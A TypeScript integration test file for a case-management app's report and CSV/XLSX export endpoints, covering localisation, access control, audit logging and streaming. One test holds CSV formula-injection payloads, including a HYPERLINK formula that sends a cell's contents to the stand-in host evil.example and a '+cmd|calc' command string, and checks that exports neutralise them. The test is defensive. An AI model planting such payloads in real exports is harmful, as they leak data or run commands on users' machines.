import ExcelJS from 'exceljs';
import { readCsv } from '../../api/src/common/csv/csv-reader';
import { csvCell } from '../../api/src/common/csv/csv-writer';
import { demoColleagues, startApi, TestApi } from '../support/api';

type Who = 'advisor' | 'advisor2' | 'coordinator' | 'manager' | 'admin';
const q = (params: Record<string, unknown>) =>
  new URLSearchParams(
    Object.entries(params).map(([k, v]): [string, string] => [k, typeof v === 'string' ? v : JSON.stringify(v)]),
  ).toString();
const binary = (res: NodeJS.ReadableStream, done: (error: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => done(null, Buffer.concat(chunks)));
};

describe('reports and exports', () => {
  let api: TestApi;
  let as: Record<Who, { Authorization: string }>;
  let ids: Record<string, string>;
  let tartines: string;
  let zenne: string;
  beforeAll(async () => {
    api = await startApi();
    ({ as, ids } = await demoColleagues(api));
    // A known data set: two organisations, two cases, four meetings, one final assessment, one approved file, two referrals.
    tartines = (
      await api.http
        .post('/api/organisations')
        .set(as.advisor)
        .send({
          name: 'Coopérative Les Tartines',
          enterpriseNumber: '0403.019.261',
          legalForm: 'sc_cv',
          sectors: ['sustainable_food', 'work_integration'],
          postcode: '1080',
          description: 'Pain, "tartines", et\nsoupe',
        })
        .expect(201)
    ).body.id;
    zenne = (
      await api.http
        .post('/api/organisations')
        .set(as.advisor)
        .send({ name: 'Bouwcoöperatie Zennevallei', legalForm: 'sc_cv', sectors: ['construction'], postcode: '1070' })
        .expect(201)
    ).body.id;
    await api.http
      .post('/api/cases')
      .set(as.coordinator)
      .send({ organisationId: tartines, title: 'Parcours', advisorId: ids.advisor, openedOn: '2026-02-01' })
      .expect(201);
    await api.http
      .post('/api/cases')
      .set(as.coordinator)
      .send({ organisationId: zenne, title: 'Traject', advisorId: ids.advisor2, openedOn: '2026-03-01' })
      .expect(201);
    const meet = (who: Who, organisationId: string, occurredAt: string, channel: string) =>
      api.http
        .post('/api/meetings')
        .set(as[who])
        .send({
          organisationId,
          subject: 'Rendez-vous',
          occurredAt,
          channel,
          notes: 'Notes, avec "guillemets"\net retour à la ligne',
        })
        .expect(201);
    await meet('advisor', tartines, '2026-02-11T10:00:00Z', 'in_person');
    await meet('advisor', tartines, '2026-03-05T10:00:00Z', 'video');
    await meet('advisor2', zenne, '2026-03-21T10:00:00Z', 'in_person');
    await meet('advisor2', zenne, '2025-12-01T10:00:00Z', 'phone');
    const assessment = (
      await api.http.post('/api/assessments').set(as.advisor).send({ organisationId: tartines }).expect(201)
    ).body;
    await api.http.post(`/api/assessments/${assessment.id}/finalise`).set(as.advisor).expect(200);
    const file = (
      await api.http
        .post('/api/recognitions')
        .set(as.advisor)
        .send({
          organisationId: tartines,
          kind: 'brussels_esd',
          validFrom: '2025-01-01',
          validUntil: new Date(Date.now() + 60 * 86_400_000).toISOString().slice(0, 10),
        })
        .expect(201)
    ).body;
    for (const status of ['submitted', 'under_review', 'approved'])
      await api.http.post(`/api/recognitions/${file.id}/move`).set(as.advisor).send({ status }).expect(200);
    const [coopcity] = await api.sql(`SELECT id FROM programmes WHERE partner = 'coopcity' ORDER BY name LIMIT 1`);
    const r1 = (
      await api.http
        .post('/api/referrals')
        .set(as.advisor)
        .send({ organisationId: tartines, partner: 'coopcity', programmeId: coopcity.id, referredOn: '2026-02-21' })
        .expect(201)
    ).body;
    for (const status of ['sent', 'accepted'])
      await api.http.post(`/api/referrals/${r1.id}/move`).set(as.advisor).send({ status }).expect(200);
    const r2 = (
      await api.http
        .post('/api/referrals')
        .set(as.advisor2)
        .send({ organisationId: zenne, partner: 'bissib', referredOn: '2026-03-11' })
        .expect(201)
    ).body;
    await api.http.post(`/api/referrals/${r2.id}/move`).set(as.advisor2).send({ status: 'sent' }).expect(200);
    await api.http
      .post(`/api/referrals/${r2.id}/move`)
      .set(as.advisor2)
      .send({ status: 'declined', reason: 'Pas encore' })
      .expect(200);
  });
  afterAll(() => api.close());

  const overview = (who: Who, params: Record<string, string> = {}) =>
    api.http
      .get(`/api/reports/overview?${new URLSearchParams({ from: '2026-01-01', to: '2026-06-30', ...params })}`)
      .set(as[who]);

  it('gives the figures of the known data set, computed in SQL', async () => {
    const res = await overview('manager').expect(200);
    expect(res.body.organisations.supported).toBe(2);
    expect(res.body.organisations.bySector).toEqual(
      expect.arrayContaining([
        { key: 'construction', count: 1 },
        { key: 'sustainable_food', count: 1 },
        { key: 'work_integration', count: 1 },
      ]),
    );
    expect(res.body.organisations.byLegalForm).toEqual([{ key: 'sc_cv', count: 2 }]);
    expect(res.body.organisations.byStage).toEqual([{ key: 'intake', count: 2 }]);
    expect(res.body.organisations.byMunicipality).toEqual(
      expect.arrayContaining([
        { key: '21012', label: 'Molenbeek-Saint-Jean', count: 1 },
        { key: '21001', label: 'Anderlecht', count: 1 },
      ]),
    );
    expect(res.body.cases).toEqual({ opened: 2, closed: 0 });
    expect(res.body.meetings.total).toBe(3);
    expect(res.body.meetings.byMonth).toEqual([
      { key: '2026-02', count: 1 },
      { key: '2026-03', count: 2 },
    ]);
    expect(res.body.meetings.byChannel).toEqual([
      { key: 'in_person', count: 2 },
      { key: 'video', count: 1 },
    ]);
    expect(res.body.meetings.byAdvisor).toEqual(
      expect.arrayContaining([
        { key: ids.advisor, label: 'Sarah El Amrani', count: 2 },
        { key: ids.advisor2, label: 'Pieter Janssens', count: 1 },
      ]),
    );
    expect(res.body.recognitions.byStatus).toEqual([{ key: 'approved', count: 1 }]);
    expect(res.body.recognitions.renewalsDueCount).toBe(1);
    expect(res.body.recognitions.renewalsDueIn120Days).toBe(1);
    // One accepted, one declined: half of the answered ones.
    expect(res.body.referrals).toMatchObject({
      total: 2,
      answered: 2,
      accepted: 1,
      acceptanceRate: 0.5,
      completionRate: 0,
    });
    expect(res.body.referrals.byPartnerAndStatus).toEqual([
      { partner: 'bissib', status: 'declined', count: 1 },
      { partner: 'coopcity', status: 'accepted', count: 1 },
    ]);
    // First meetings after 10 and 20 days, referrals after 20 and 10 days.
    expect(res.body.medianDays).toEqual({ caseOpeningToFirstMeeting: 15, caseOpeningToReferral: 15 });
  });

  it('serves the same figures again for a minute, saying when they were computed; each scope has its own', async () => {
    const first = await overview('manager').expect(200);
    expect(Math.abs(Date.parse(first.body.computedAt) - Date.now())).toBeLessThan(60_000);
    const again = await overview('manager').expect(200);
    expect(again.body).toEqual(first.body);
    const other = await overview('manager', { to: '2026-02-28' }).expect(200);
    expect(other.body.period.to).toBe('2026-02-28');
    expect(other.body.meetings.total).toBe(1);
  });

  it('narrows to an advisor and a sector; an advisor sees their own cases only', async () => {
    const own = await overview('advisor').expect(200);
    expect(own.body.scope.advisorId).toBe(ids.advisor);
    expect(own.body.organisations.supported).toBe(1);
    expect(own.body.meetings.total).toBe(2);
    expect(own.body.referrals.total).toBe(1);
    await overview('advisor', { advisorId: ids.advisor2 }).expect(403);
    const sector = await overview('coordinator', { sector: 'construction' }).expect(200);
    expect(sector.body.organisations.supported).toBe(1);
    expect(sector.body.meetings.total).toBe(1);
    const bad = await overview('manager', { from: 'yesterday', sector: 'knitting' }).expect(400);
    expect(Object.keys(bad.body.errors).sort()).toEqual(['from', 'sector']);
    expect(bad.body.errorCodes.from.code).toBe('validation.not_a_day');
    const reversed = await overview('manager', { from: '2026-06-30', to: '2026-01-01', lang: 'nl' }).expect(400);
    expect(reversed.body.errorCodes).toEqual({ to: { code: 'report.period_order', params: {} } });
    expect(reversed.body.errors.to).toBe('Het einde van de periode ligt voor het begin.');
  });

  it('?codes=true: a CSV with a BOM, RFC 4180 quoting, machine names, codes, labels for relations and ISO dates, every row, filtered like the list', async () => {
    const res = await api.http
      .get(
        `/api/reports/organisations.csv?${q({ filter: { legalForm: 'sc_cv' }, sort: ['name', 'ASC'], codes: 'true' })}`,
      )
      .set(as.manager)
      .buffer(true)
      .parse(binary as never)
      .expect(200);
    expect(res.headers['content-type']).toMatch(/text\/csv; charset=utf-8/);
    expect(res.headers['content-disposition']).toMatch(
      /attachment; filename="traject-organisations-\d{4}-\d{2}-\d{2}\.csv"/,
    );
    const text = (res.body as Buffer).toString('utf8');
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(text).toContain('"Pain, ""tartines"", et\nsoupe"');
    const [header, ...rows] = readCsv(text.slice(1));
    expect(rows).toHaveLength(2);
    const record = (cells: string[]) => Object.fromEntries(header.cells.map((h, i) => [h, cells[i]]));
    const [zenneRow, tartinesRow] = rows.map((r) => record(r.cells));
    expect(zenneRow).toMatchObject({
      name: 'Bouwcoöperatie Zennevallei',
      advisor: 'Pieter Janssens',
      municipalityFr: 'Anderlecht',
      sectors: 'construction',
    });
    expect(tartinesRow).toMatchObject({
      name: 'Coopérative Les Tartines',
      enterpriseNumber: '0403.019.261',
      description: 'Pain, "tartines", et\nsoupe',
      sectors: 'sustainable_food|work_integration',
      advisor: 'Sarah El Amrani',
      stage: 'intake',
    });
    expect(tartinesRow.lastMeetingAt).toBe('2026-03-05T10:00:00Z');
    expect(tartinesRow.createdAt).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/);
    const meetings = await api.http
      .get(`/api/reports/meetings.csv?${q({ filter: { organisationId: tartines }, codes: 'true' })}`)
      .set(as.manager)
      .buffer(true)
      .parse(binary as never)
      .expect(200);
    const [mHeader, ...mRows] = readCsv((meetings.body as Buffer).toString('utf8').slice(1));
    expect(mRows).toHaveLength(2);
    const notes = mHeader.cells.indexOf('notes');
    expect(mRows[0].cells[notes]).toBe('Notes, avec "guillemets"\net retour à la ligne');
    expect(mRows[0].cells[mHeader.cells.indexOf('organisation')]).toBe('Coopérative Les Tartines');
  });

  it('?codes=true: XLSX through a maintained library, the same rows as the CSV', async () => {
    const res = await api.http
      .get(`/api/reports/referrals.xlsx?${q({ sort: ['referredOn', 'ASC'], codes: 'true' })}`)
      .set(as.coordinator)
      .buffer(true)
      .parse(binary as never)
      .expect(200);
    expect(res.headers['content-type']).toMatch(/spreadsheetml/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.body as never);
    const sheet = workbook.getWorksheet('referrals')!;
    const rows = sheet
      .getSheetValues()
      .filter(Boolean)
      .map((row) => (row as unknown[]).slice(1));
    expect(rows[0]).toEqual([
      'id',
      'organisation',
      'enterpriseNumber',
      'partner',
      'programme',
      'status',
      'referredOn',
      'respondedOn',
      'completedOn',
      'outcome',
      'reason',
      'referredBy',
    ]);
    expect(rows).toHaveLength(3);
    expect(rows[1].slice(1, 7)).toEqual([
      'Coopérative Les Tartines',
      '0403.019.261',
      'coopcity',
      expect.stringMatching(/^COOPCITY/),
      'accepted',
      '2026-02-21',
    ]);
    expect(rows[2][10]).toBe('Pas encore');
  });

  const download = async (path: string, params: Record<string, unknown>, who: Who = 'manager') =>
    (await api.http
      .get(`/api/reports/${path}?${q(params)}`)
      .set(as[who])
      .buffer(true)
      .parse(binary as never)
      .expect(200)) as unknown as { body: Buffer; headers: Record<string, string> };
  /** The CSV as {header: cell} records, read with the separator the file must use. */
  const records = (body: Buffer, separator: ',' | ';') => {
    const text = body.toString('utf8');
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const [header, ...rows] = readCsv(text.slice(1), separator);
    return {
      header: header.cells,
      rows: rows.map((r) => Object.fromEntries(header.cells.map((h, i) => [h, r.cells[i]]))),
    };
  };

  it("exports in the requester's language: French headers and words, Belgian days, `;` between cells, a French file name", async () => {
    const res = await download('organisations.csv', { filter: { id: [tartines] }, lang: 'fr' });
    expect(res.headers['content-disposition']).toMatch(/filename="traject-organisations-\d{4}-\d{2}-\d{2}\.csv"/);
    expect(res.headers['content-language']).toBe('fr');
    const { header, rows } = records(res.body, ';');
    expect(header).toEqual([
      'Identifiant',
      'Nom',
      "Numéro d'entreprise",
      'Forme juridique',
      'Secteurs',
      'Description',
      'Rue et numéro',
      'Code postal',
      'Commune',
      'Étape',
      'Conseiller·ère',
      'Agrément',
      'Dernière rencontre',
      'Fondée le',
      'Travailleurs (ETP)',
      'Bénévoles',
      'Langues',
      'Étiquettes',
      'Archivée',
      'Créé le',
    ]);
    expect(rows[0]).toMatchObject({
      Nom: 'Coopérative Les Tartines',
      "Numéro d'entreprise": '0403.019.261',
      'Forme juridique': 'Société coopérative',
      Secteurs: 'Alimentation durable, Insertion socioprofessionnelle',
      Commune: 'Molenbeek-Saint-Jean',
      Étape: 'Accueil',
      Agrément: 'Agréée',
      'Dernière rencontre': '05/03/2026 11:00',
      Archivée: 'Non',
    });
    expect(rows[0]['Créé le']).toMatch(/^\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}$/);
    // Nothing left as a code.
    expect(Object.values(rows[0]).join(' ')).not.toMatch(
      /sc_cv|sustainable_food|work_integration|intake|approved|false/,
    );
  });

  it("exports in Dutch (the user's language, or ?lang=nl): Dutch headers, words and file name", async () => {
    // The demo coordinator reads Dutch: no ?lang needed.
    const res = await download('recognitions.csv', { filter: { organisationId: tartines } }, 'coordinator');
    expect(res.headers['content-disposition']).toMatch(/filename="traject-erkenningen-\d{4}-\d{2}-\d{2}\.csv"/);
    const { header, rows } = records(res.body, ';');
    expect(header).toEqual([
      'Identificatie',
      'Organisatie',
      'Ondernemingsnummer',
      'Soort erkenning',
      'Status',
      'Termijn',
      'Ingediend op',
      'Beslissing op',
      'Geldig vanaf',
      'Geldig tot',
      'Referentie',
    ]);
    expect(rows[0]).toMatchObject({
      Organisatie: 'Coopérative Les Tartines',
      'Soort erkenning': 'Brusselse erkenning – sociale en democratische onderneming',
      Status: 'Toegekend',
      Termijn: 'Eerste erkenning',
      'Geldig vanaf': '01/01/2025',
    });
    const organisations = records(
      (await download('organisations.csv', { filter: { id: [tartines] }, lang: 'nl' })).body,
      ';',
    );
    expect(organisations.rows[0]).toMatchObject({
      Naam: 'Coopérative Les Tartines',
      Ondernemingsnummer: '0403.019.261',
      Rechtsvorm: 'Coöperatieve vennootschap',
      Sectoren: 'Duurzame voeding, Socioprofessionele inschakeling',
      Gemeente: 'Sint-Jans-Molenbeek',
      Fase: 'Intake',
      Erkenning: 'Erkend',
      Gearchiveerd: 'Nee',
    });
    const meetings = records(
      (
        await download('meetings.csv', {
          filter: { organisationId: tartines },
          sort: ['occurredAt', 'ASC'],
          lang: 'nl',
        })
      ).body,
      ';',
    );
    expect(meetings.rows.map((m) => [m.Datum, m.Kanaal])).toEqual([
      ['11/02/2026 11:00', 'Fysiek'],
      ['05/03/2026 11:00', 'Videogesprek'],
    ]);
    const referrals = records((await download('referrals.csv', { sort: ['referredOn', 'ASC'], lang: 'nl' })).body, ';');
    expect(referrals.rows.map((r) => [r.Partner, r.Status])).toEqual([
      ['COOPCITY', 'Aanvaard'],
      ['BISSIB – Sociale Innovatie Brussel', 'Afgewezen'],
    ]);
  });

  it('exports in English with `,`; ?sep= chooses the separator', async () => {
    const english = records((await download('referrals.csv', { sort: ['referredOn', 'ASC'], lang: 'en' })).body, ',');
    expect(english.header.slice(0, 6)).toEqual([
      'Id',
      'Organisation',
      'Enterprise number',
      'Partner',
      'Programme',
      'Status',
    ]);
    expect(english.rows.map((r) => [r.Partner, r.Status, r['Referred on']])).toEqual([
      ['COOPCITY', 'Accepted', '21/02/2026'],
      ['BISSIB – Bruxelles Innovation Sociale / BISSIB – Sociale Innovatie Brussel', 'Declined', '11/03/2026'],
    ]);
    const commas = records((await download('referrals.csv', { lang: 'fr', sep: ',' })).body, ',');
    expect(commas.header[1]).toBe('Organisation');
    expect(commas.rows).toHaveLength(2);
    const semicolons = records((await download('referrals.csv', { codes: 'true', sep: ';' })).body, ';');
    expect(semicolons.header[3]).toBe('partner');
  });

  it('XLSX in Dutch: headers and words, real dates, a frozen header row, columns as wide as their words', async () => {
    const res = await download('referrals.xlsx', { sort: ['referredOn', 'ASC'], lang: 'nl' });
    expect(res.headers['content-disposition']).toMatch(/filename="traject-doorverwijzingen-\d{4}-\d{2}-\d{2}\.xlsx"/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.body as never);
    const sheet = workbook.getWorksheet('doorverwijzingen')!;
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    const rows = sheet
      .getSheetValues()
      .filter(Boolean)
      .map((row) => (row as unknown[]).slice(1));
    expect(rows[0]).toEqual([
      'Identificatie',
      'Organisatie',
      'Ondernemingsnummer',
      'Partner',
      'Programma',
      'Status',
      'Doorverwezen op',
      'Antwoord op',
      'Voltooid op',
      'Resultaat',
      'Reden',
      'Doorverwezen door',
    ]);
    expect(rows[1].slice(1, 7)).toEqual([
      'Coopérative Les Tartines',
      '0403.019.261',
      'COOPCITY',
      expect.stringMatching(/^COOPCITY/),
      'Aanvaard',
      new Date('2026-02-21T00:00:00Z'),
    ]);
    expect(sheet.getCell('G2').numFmt).toBe('dd/mm/yyyy');
    expect(sheet.getColumn(7).width).toBeGreaterThanOrEqual(12);
    expect(sheet.getColumn(2).width).toBe('Organisatie'.length + 4);
    const meetings = await download('meetings.xlsx', {
      filter: { organisationId: tartines },
      sort: ['occurredAt', 'ASC'],
      lang: 'fr',
    });
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(meetings.body as never);
    const rencontres = book.getWorksheet('rencontres')!;
    // A moment is its Brussels wall-clock time (a spreadsheet knows no time zones).
    expect(rencontres.getCell('D2').value).toEqual(new Date('2026-02-11T11:00:00Z'));
    expect(rencontres.getCell('D2').numFmt).toBe('dd/mm/yyyy hh:mm');
    expect(rencontres.getCell('E2').value).toBe('En personne');
  });

  it('CSV formula injection: text starting with =, +, -, @, tab or CR is neutralised; numbers stay numbers; XLSX writes text cells', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A2,"click")';
    const org = (
      await api.http
        .post('/api/organisations')
        .set(as.advisor)
        .send({ name: evil, description: '+cmd|calc', postcode: '1000', employeesFte: -0 })
        .expect(201)
    ).body;
    await api.http
      .post('/api/meetings')
      .set(as.advisor)
      .send({ organisationId: org.id, subject: '@SUM(1+1)', notes: '\tTAB', outcomes: '-2+3' })
      .expect(201);
    const csv = await api.http
      .get(`/api/reports/organisations.csv?${q({ filter: { id: [org.id] }, codes: 'true' })}`)
      .set(as.manager)
      .buffer(true)
      .parse(binary as never)
      .expect(200);
    const [header, row] = readCsv((csv.body as Buffer).toString('utf8').slice(1));
    const cell = (name: string) => row.cells[header.cells.indexOf(name)];
    expect(cell('name')).toBe(`'${evil}`);
    expect(cell('description')).toBe(`'+cmd|calc`);
    // In words too (the default): same neutralisation, `;` between cells.
    const french = await api.http
      .get(`/api/reports/organisations.csv?${q({ filter: { id: [org.id] }, lang: 'fr' })}`)
      .set(as.manager)
      .buffer(true)
      .parse(binary as never)
      .expect(200);
    const [frHeader, frRow] = readCsv((french.body as Buffer).toString('utf8').slice(1), ';');
    expect(frRow.cells[frHeader.cells.indexOf('Nom')]).toBe(`'${evil}`);
    expect(frRow.cells[frHeader.cells.indexOf('Description')]).toBe(`'+cmd|calc`);
    expect(frRow.cells[frHeader.cells.indexOf('Travailleurs (ETP)')]).toBe('0');
    const meetings = await api.http
      .get(`/api/reports/meetings.csv?${q({ filter: { organisationId: org.id }, codes: 'true' })}`)
      .set(as.manager)
      .buffer(true)
      .parse(binary as never)
      .expect(200);
    const [mHeader, mRow] = readCsv((meetings.body as Buffer).toString('utf8').slice(1));
    const mCell = (name: string) => mRow.cells[mHeader.cells.indexOf(name)];
    expect(mCell('subject')).toBe(`'@SUM(1+1)`);
    expect(mCell('notes')).toBe(`'\tTAB`);
    expect(mCell('outcomes')).toBe(`'-2+3`);
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell('-12.5')).toBe('-12.5');
    expect(csvCell('-12,5')).toBe('"-12,5"'); // a Belgian number is quoted (it holds a comma), not neutralised
    const xlsx = await api.http
      .get(`/api/reports/organisations.xlsx?${q({ filter: { id: [org.id] }, codes: 'true' })}`)
      .set(as.manager)
      .buffer(true)
      .parse(binary as never)
      .expect(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.body as never);
    const sheet = workbook.worksheets[0];
    const names = sheet.getColumn((sheet.getRow(1).values as string[]).indexOf('name'));
    const cellValue = names.values.find((v) => typeof v === 'string' && v.includes('HYPERLINK'));
    expect(cellValue).toBe(evil); // a text cell: Excel shows it, never runs it
    expect(
      sheet
        .getSheetValues()
        .flat()
        .some((v) => v && typeof v === 'object' && 'formula' in (v as object)),
    ).toBe(false);
  });

  it('contacts (personal data) only for coordinators and admins, and every export is in the audit log', async () => {
    await api.http
      .post('/api/contacts')
      .set(as.advisor)
      .send({ organisationId: tartines, firstName: 'Ann', lastName: 'Peeters' })
      .expect(201);
    await api.http.get('/api/reports/contacts.csv').set(as.manager).expect(403);
    await api.http.get('/api/reports/contacts.csv').set(as.advisor).expect(403);
    const res = await api.http
      .get('/api/reports/contacts.xlsx')
      .set(as.admin)
      .buffer(true)
      .parse(binary as never)
      .expect(200);
    expect((res.body as Buffer).length).toBeGreaterThan(100);
    const [log] = await api.sql(
      `SELECT user_id, entity, changes FROM audit_log WHERE action = 'export' AND entity = 'contacts' ORDER BY id DESC LIMIT 1`,
    );
    expect(log).toMatchObject({
      user_id: ids.admin,
      entity: 'contacts',
      changes: { format: 'xlsx', personalData: true, codes: false },
    });
  });

  it('an advisor exports only what belongs to their cases; unknown reports and formats are refused', async () => {
    const res = await api.http
      .get('/api/reports/cases.csv')
      .set(as.advisor)
      .buffer(true)
      .parse(binary as never)
      .expect(200);
    const [, ...rows] = readCsv((res.body as Buffer).toString('utf8').slice(1));
    expect(rows).toHaveLength(1);
    await api.http.get('/api/reports/salaries.csv').set(as.manager).expect(404);
    await api.http.get('/api/reports/organisations.pdf').set(as.manager).expect(400);
    const bad = await api.http
      .get('/api/reports/organisations.csv?codes=yes&sep=|&lang=nl')
      .set(as.manager)
      .expect(400);
    expect(bad.body.errorCodes).toEqual({
      codes: { code: 'report.codes_flag', params: {} },
      sep: { code: 'report.separator', params: {} },
    });
    expect(bad.body.errors.sep).toBe('Het scheidingsteken is „,” of „;”.');
    await api.http
      .get(`/api/reports/organisations.csv?${q({ filter: { colour: 'blue' } })}`)
      .set(as.manager)
      .expect(400);
    await api.http.get('/api/reports/organisations.csv').expect(401);
  });

  it('streams 20,000 rows with flat memory, and none is cut', async () => {
    await api.sql(`INSERT INTO organisations (name, legal_form, sectors, postcode, municipality, description)
                   SELECT 'Organisation ' || n, 'asbl_vzw', ARRAY['culture'], '1000', '21004', repeat('Description longue. ', 10) FROM generate_series(1, 20000) n`);
    global.gc?.();
    const before = process.memoryUsage().rss;
    let peak = before;
    const timer = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 20);
    const res = await api.http
      .get(`/api/reports/organisations.csv?${q({ filter: { legalForm: 'asbl_vzw' } })}`)
      .set(as.manager)
      .buffer(true)
      .parse(binary as never)
      .expect(200);
    clearInterval(timer);
    const lines = readCsv((res.body as Buffer).toString('utf8').slice(1));
    expect(lines).toHaveLength(20_001);
    const grewMb = (peak - before) / 1024 / 1024;
    console.log(
      `20,000-row CSV export: ${((res.body as Buffer).length / 1024 / 1024).toFixed(1)} MB, RSS before ${(before / 1048576).toFixed(0)} MB, peak +${grewMb.toFixed(1)} MB`,
    );
    expect(grewMb).toBeLessThan(100);
  }, 60_000);
  it('the acceptance rate counts the answered referrals only: one still waiting changes the total, not the rate', async () => {
    const [coopcity] = await api.sql(`SELECT id FROM programmes WHERE partner = 'coopcity' ORDER BY name LIMIT 1`);
    const waiting = (
      await api.http
        .post('/api/referrals')
        .set(as.advisor)
        .send({ organisationId: tartines, partner: 'coopcity', programmeId: coopcity.id, referredOn: '2026-04-02' })
        .expect(201)
    ).body;
    await api.http.post(`/api/referrals/${waiting.id}/move`).set(as.advisor).send({ status: 'sent' }).expect(200);
    // Another period than the earlier tests', so the minute's cache does not answer.
    const res = await overview('manager', { to: '2026-06-29' }).expect(200);
    expect(res.body.referrals).toMatchObject({ total: 3, answered: 2, accepted: 1, acceptanceRate: 0.5 });
    await api.http
      .post(`/api/referrals/${waiting.id}/move`)
      .set(as.advisor)
      .send({ status: 'cancelled', reason: 'Plus nécessaire' })
      .expect(200);
  });

  it("keeps each case's first meeting after its opening as meetings come, move and go (the medians read it)", async () => {
    const firstMeeting = async () =>
      (await api.sql(`SELECT first_meeting_on::text AS day FROM cases WHERE organisation_id = $1`, [tartines]))[0].day;
    expect(await firstMeeting()).toBe('2026-02-11');
    const early = (
      await api.http
        .post('/api/meetings')
        .set(as.advisor)
        .send({ organisationId: tartines, subject: 'Appel', occurredAt: '2026-02-03T09:00:00Z', channel: 'phone' })
        .expect(201)
    ).body;
    expect(await firstMeeting()).toBe('2026-02-03');
    const moved = (
      await api.http
        .put(`/api/meetings/${early.id}`)
        .set(as.advisor)
        .send({ ...early, occurredAt: '2026-01-20T09:00:00Z' })
        .expect(200)
    ).body;
    expect(await firstMeeting()).toBe('2026-02-11');
    await api.http
      .put(`/api/meetings/${early.id}`)
      .set(as.advisor)
      .send({ ...moved, occurredAt: '2026-02-05T09:00:00Z' })
      .expect(200);
    expect(await firstMeeting()).toBe('2026-02-05');
    await api.http.delete(`/api/meetings/${early.id}`).set(as.advisor).expect(200);
    expect(await firstMeeting()).toBe('2026-02-11');
  });
});
